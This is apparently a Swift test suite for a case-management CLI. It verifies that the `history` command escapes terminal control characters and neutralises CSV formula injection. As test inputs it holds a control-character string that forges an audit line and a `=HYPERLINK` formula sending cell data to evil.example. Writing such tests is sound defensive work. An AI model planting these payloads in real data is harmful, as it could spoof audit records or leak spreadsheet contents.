import CaseflowEngine
import CaseflowModel
import CaseflowStore
import CaseflowTestSupport
import Foundation
import Testing

/// A reason that carries terminal control characters cannot forge a line in an auditor's
/// terminal: `caseflow history` writes them as escapes, in text and in CSV.
@Suite struct HistoryControlCharacterTests {
    /// A database holding one sales case `id` for `customer`, cancelled with `reason`.
    static func cancelled(_ id: String, customer: String, reason: String) async throws -> String {
        let db = try Scratch.folder("caseflow-history-escape").appendingPathComponent("cases.sqlite").path
        let engine = SalesCasesFixture.engine
        let start = SalesCasesFixture.start
        let opened = try engine.open(caseID: id, workflow: "service-sales", data: [("customer", .string(customer))], by: "alice", at: start).get()
        let cancelled = try engine.handle(.cancel(reason: reason), on: opened.state, by: "alice", at: start + Int64(60_000)).get()
        let store = try SQLiteStore(path: db)
        try await store.commit(CaseWrite(caseID: id, expectedVersion: 0, events: opened.events + cancelled.events,
                                         snapshot: try StoredCase(state: cancelled.state, engine: engine, updatedAt: start)))
        return db
    }

    @Test func aReasonCannotDrawAForgedLine() async throws {
        let forged = "dup\r2026-03-02 09:00:00 +08:00  dana (sales_director)  gate_passed\u{1B}[8m\u{202E}"
        let db = try await Self.cancelled("h-1", customer: "Acme", reason: forged)

        let text = try CLIProcess.run(["history", "h-1", "--db", db])
        #expect(text.status == 0, "\(text.stderr)")
        #expect(!text.stdout.unicodeScalars.contains { $0 == "\r" || $0 == "\u{1B}" || $0 == "\u{202E}" })
        #expect(text.stdout.contains(#"case_cancelled  dup\r2026-03-02 09:00:00 +08:00  dana (sales_director)  gate_passed\u{1B}[8m\u{202E}"#),
                "\(text.stdout)")
        #expect(text.stdout.split(separator: "\n").filter { $0.contains("gate_passed") }.count == 1, "one line, the cancel's")

        let csv = try CLIProcess.run(["history", "h-1", "--db", db, "--format", "csv"])
        #expect(csv.status == 0)
        #expect(!csv.stdout.unicodeScalars.contains { $0 == "\r" || $0 == "\u{1B}" || $0 == "\u{202E}" })
        #expect(csv.stdout.contains(#"dup\r2026-03-02"#))

        // The stored event keeps the reason exactly as given: only its display is escaped.
        let json = try CLIProcess.run(["history", "h-1", "--db", db, "--format", "json"])
        #expect(json.stdout.contains(#"dup\r2026-03-02"#) && json.stdout.contains(#"\u001b[8m"#), "\(json.stdout.suffix(600))")
    }

    /// A cancel reason written as a spreadsheet formula reached the CSV as one: the cell now
    /// starts with `'`, so a spreadsheet shows it as text.
    @Test func aFormulaInCaseDataIsTextInCSV() async throws {
        let db = try await Self.cancelled("h-2", customer: "@SUM(1+1)", reason: #"=HYPERLINK("http://evil.example/"&A1,"x")"#)
        let csv = try CLIProcess.run(["history", "h-2", "--db", db, "--format", "csv"])
        #expect(csv.status == 0, "\(csv.stderr)")
        let rows = csv.stdout.split(separator: "\n").map(String.init)
        let cancel = try #require(rows.first { $0.contains("case_cancelled") })
        #expect(cancel.contains(#","'=HYPERLINK(""http://evil.example/""&A1,""x"")","#), "\(cancel)")
        #expect(!rows.contains { $0.contains(#",=HYPERLINK"#) || $0.contains(#","=HYPERLINK"#) })
        // The stored reason is as given.
        let json = try CLIProcess.run(["history", "h-2", "--db", db, "--format", "json"])
        #expect(json.stdout.contains(#""reason":"=HYPERLINK(\"http://evil.example/\"&A1,\"x\")""#), "\(json.stdout.suffix(400))")
    }
}
